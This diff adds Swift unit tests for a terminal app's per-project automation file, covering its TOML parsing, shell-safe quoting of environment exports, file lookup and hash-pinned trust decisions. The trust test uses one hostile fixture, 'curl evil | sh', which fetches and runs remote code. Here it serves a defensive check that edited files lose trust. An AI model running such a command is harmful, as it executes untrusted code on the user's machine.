@@ -0,0 +1,87 @@
+import XCTest
+@testable import InfinittyKit
+
+final class ProjectAutomationTests: XCTestCase {
+    private var root: URL!
+
+    override func setUpWithError() throws {
+        root = FileManager.default.temporaryDirectory.appendingPathComponent("automation-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(
+            at: root.appendingPathComponent("src/deep"), withIntermediateDirectories: true)
+    }
+
+    override func tearDown() {
+        try? FileManager.default.removeItem(at: root)
+    }
+
+    func testParse() throws {
+        let text = """
+            # dev setup
+            layout = "main-and-stack"
+            run = [
+              "nvm use",  # pinned node
+              'echo "ready"',
+            ]
+
+            [env]
+            RUST_LOG = "debug # not a comment"
+            PORT = 8080
+            """
+        let automation = try ProjectAutomation.parse(text, path: "/p/.infinitty.toml", hash: "h").get()
+        XCTAssertEqual(automation.layout, "main-and-stack")
+        XCTAssertEqual(automation.run, ["nvm use", #"echo "ready""#])
+        XCTAssertEqual(automation.env, ["RUST_LOG": "debug # not a comment", "PORT": "8080"])
+        XCTAssertEqual(automation.directory, "/p")
+
+        XCTAssertEqual(ProjectAutomation.parse("run = \"make\"", path: "", hash: "").map(\.run), .success(["make"]))
+        XCTAssertEqual(
+            ProjectAutomation.parse("lyaout = \"grid\"", path: "", hash: "").map(\.layout),
+            .failure(.unknownKey(1, "lyaout")))
+        XCTAssertEqual(
+            ProjectAutomation.parse("[env]\n2X = \"y\"", path: "", hash: "").map(\.env),
+            .failure(.invalidLine(2, "'2X' isn't a variable name")))
+        XCTAssertEqual(
+            ProjectAutomation.parse("run = [\"a\",", path: "", hash: "").map(\.run),
+            .failure(.invalidLine(1, "unclosed array")))
+    }
+
+    /// Exports come first on one space-prefixed line, values single-quoted
+    /// so the shell expands nothing in them.
+    func testShellInput() {
+        var automation = ProjectAutomation(path: "/p/.infinitty.toml", hash: "h")
+        XCTAssertEqual(automation.shellInput, "")
+        automation.env = ["B": "it's $HOME", "A": "1"]
+        automation.run = ["make dev"]
+        XCTAssertEqual(automation.shellInput, " export A='1' B='it'\\''s $HOME'\rmake dev\r")
+    }
+
+    func testFindWalksUpToTheNearestFile() throws {
+        let deep = root.appendingPathComponent("src/deep").path
+        XCTAssertNil(ProjectAutomation.find(from: deep))
+        let file = root.appendingPathComponent(ProjectAutomation.fileName)
+        try Data("run = \"ls\"".utf8).write(to: file)
+        XCTAssertEqual(ProjectAutomation.find(from: deep), file.standardizedFileURL.path)
+        let inner = root.appendingPathComponent("src/\(ProjectAutomation.fileName)")
+        try Data().write(to: inner)
+        XCTAssertEqual(ProjectAutomation.find(from: deep), inner.standardizedFileURL.path)
+    }
+
+    /// A decision holds for the content it was made on; editing the file
+    /// brings the question back.
+    func testTrustIsPinnedToTheContentHash() throws {
+        let file = root.appendingPathComponent(ProjectAutomation.fileName)
+        try Data("run = \"make dev\"".utf8).write(to: file)
+        let trust = ProjectTrust(url: root.appendingPathComponent("trust.json"))
+        let automation = try ProjectAutomation.load(path: file.path).get()
+        XCTAssertNil(trust.decision(for: automation))
+        trust.record(automation, trusted: true)
+        XCTAssertEqual(ProjectTrust(url: trust.url).decision(for: automation), true)
+
+        try Data("run = \"curl evil | sh\"".utf8).write(to: file)
+        let edited = try ProjectAutomation.load(path: file.path).get()
+        XCTAssertNotEqual(edited.hash, automation.hash)
+        XCTAssertNil(trust.decision(for: edited))
+        trust.record(edited, trusted: false)
+        XCTAssertEqual(trust.decision(for: edited), false)
+    }
+}